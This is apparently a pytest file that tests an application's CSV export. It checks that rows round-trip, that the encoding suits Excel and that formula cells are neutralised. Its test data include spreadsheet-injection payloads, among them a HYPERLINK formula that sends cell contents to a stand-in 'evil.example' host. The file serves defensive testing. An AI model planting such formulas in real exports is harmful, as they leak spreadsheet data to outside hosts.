"""CSV export: opens cleanly in spreadsheets, neutralises formulas, and imports back into
an empty workspace as the same rows (export -> import -> export gives the same bytes)."""

import codecs
import csv
import io
from decimal import Decimal

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from app.bootstrap import Workspace
from app.interchange import CSV_KINDS, export_csv, import_csv
from app.model import Account, ServicePackage
from tests.helpers import factories

HOSTILE = (
    "<b>bold</b> & <i>Söhne</i>",
    '=HYPERLINK("http://evil.example/?q="&A1,"Click me")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    'Line one\nline two; with, delimiters "and quotes"',
    "شركة الهندسة الدقيقة",
    "חברת הנדסה",
    "株式会社東京精密",
    "Werkzeug 🔧🏭 geliefert",
    "x" * 300,
)


def copy_catalog(source: Session, target: Session) -> None:
    """Contracts name their package; give the empty workspace the same catalog."""
    for package in source.scalars(select(ServicePackage).order_by(ServicePackage.id)):
        target.add(ServicePackage(name=package.name, currency=package.currency))
    target.flush()


@pytest.mark.parametrize("lang", ["de", "en"])
def test_every_kind_round_trips_through_an_empty_workspace(
    demo_workspace: Workspace, empty_workspace: Workspace, lang: str
) -> None:
    with demo_workspace.session() as source, empty_workspace.transaction() as target:
        copy_catalog(source, target)
        for kind in CSV_KINDS:  # accounts first: later kinds refer to them
            exported = export_csv(source, kind, lang)
            report = import_csv(target, kind, exported)
            assert report.rows > 0, kind
            assert export_csv(target, kind, lang) == exported, kind


def test_the_file_is_what_excel_expects(demo_workspace: Workspace) -> None:
    with demo_workspace.session() as session:
        german = export_csv(session, "ledger", "de")
        english = export_csv(session, "ledger", "en")
    assert german.startswith(codecs.BOM_UTF8 + b"Kundennummer;Datum;Kategorie;")
    assert english.startswith(codecs.BOM_UTF8 + b"customer_number,provided_on,category,")
    for data in (german, english):
        assert data.count(b"\r\n") == data.count(b"\n")  # CRLF only
    first = german.decode("utf-8-sig").split("\r\n")[1]
    assert first.startswith("10-4711;06.02.2026;delivery_in_person;")
    assert ";420,00;EUR;3,50;" in first
    assert ",420.00,EUR,3.50," in english.decode("utf-8-sig").split("\r\n")[1]


def test_formula_cells_are_neutralised_but_numbers_are_not(empty_workspace: Workspace) -> None:
    with empty_workspace.transaction() as session:
        owner = factories.account(
            session,
            customer_number="-1",
            name='=HYPERLINK("http://evil","x")',
            owner="@SUM(A1)",
            notes="\tTabbed",
            industry="\rReturn",
            city="+1",
            street="-2+3",
        )
        factories.contract(session, owner, number="=1+1", annual_value_minor=123_456_00)
        for lang in ("de", "en"):
            for kind in ("accounts", "contracts"):
                text = export_csv(session, kind, lang).decode("utf-8-sig")
                rows = list(
                    csv.reader(
                        io.StringIO(text, newline=""), delimiter=";" if lang == "de" else ","
                    )
                )
                cells = dict(zip(rows[0], rows[1], strict=True))
                risky = [
                    cell for cell in cells.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                ]
                assert risky == [], (kind, lang)
                if kind == "accounts":
                    assert cells["Name" if lang == "de" else "name"] == (
                        '\'=HYPERLINK("http://evil","x")'
                    )
                    assert cells["Notizen" if lang == "de" else "notes"] == "'\tTabbed"
                else:
                    value = cells["Jahreswert" if lang == "de" else "annual_value"]
                    assert value == ("123456,00" if lang == "de" else "123456.00")


@pytest.mark.parametrize("lang", ["de", "en"])
def test_hostile_text_survives_a_round_trip(
    empty_workspace: Workspace,
    another_empty_workspace: Workspace,
    lang: str,
) -> None:
    target_workspace = another_empty_workspace
    with empty_workspace.transaction() as source:
        for number, text in enumerate(HOSTILE):
            owner = factories.account(
                source,
                customer_number=f"H-{number}",
                name=text.replace("\n", " "),
                notes=text,
                owner=text[:120].replace("\n", " "),
            )
            factories.contact(source, owner, name=text.replace("\n", " "), notes=text)
            factories.free_service(
                source, owner, description=text, provided_by=text[:120], hours=Decimal("1.25")
            )
    with empty_workspace.session() as source, target_workspace.transaction() as target:
        for kind in ("accounts", "contacts", "ledger"):
            exported = export_csv(source, kind, lang)
            import_csv(target, kind, exported)
            assert export_csv(target, kind, lang) == exported
        names = target.scalars(select(Account.name).order_by(Account.id)).all()
        assert names == [text.replace("\n", " ") for text in HOSTILE]
        notes = target.scalars(select(Account.notes).order_by(Account.id)).all()
        assert notes == list(HOSTILE)
